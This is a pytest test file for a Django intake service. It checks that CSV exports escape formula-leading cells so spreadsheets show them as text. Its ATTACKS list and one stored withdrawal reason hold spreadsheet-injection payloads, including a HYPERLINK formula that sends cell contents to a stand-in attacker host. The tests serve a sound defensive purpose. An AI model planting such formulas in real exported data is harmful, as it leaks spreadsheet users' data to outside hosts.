"""Every CSV the service writes is safe to open in a spreadsheet."""

import csv
from io import StringIO

import pytest
from django.core.management import call_command

from intake import exports
from intake.services import withdraw_case
from intake.workflow import Actor
from tests.factories import make_case, make_patient

ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_formula_leading_cell_is_written_as_text(cell):
    out = StringIO()
    exports.writer(out).writerow([cell, "plain", 12, -3.5])

    (row,) = list(csv.reader(StringIO(out.getvalue())))

    assert row == ["'" + cell, "plain", "12", "-3.5"]  # numbers stay numbers


@pytest.mark.django_db
def test_the_audit_export_neutralises_what_a_person_typed():
    # Given a withdrawal reason that a spreadsheet would run as a formula
    case = make_case(patient=make_patient(mrn="MRN-CSV"))
    withdraw_case(case=case, actor=Actor(label="@attacker"), reason='=HYPERLINK("https://evil.example","x")')
    out = StringIO()

    call_command("export_audit", "--patient", "MRN-CSV", stdout=out)

    cells = [cell for row in csv.reader(StringIO(out.getvalue())) for cell in row]
    assert "'@attacker" in cells
    assert not any(cell.startswith(tuple("=+-@\t\r")) for cell in cells)
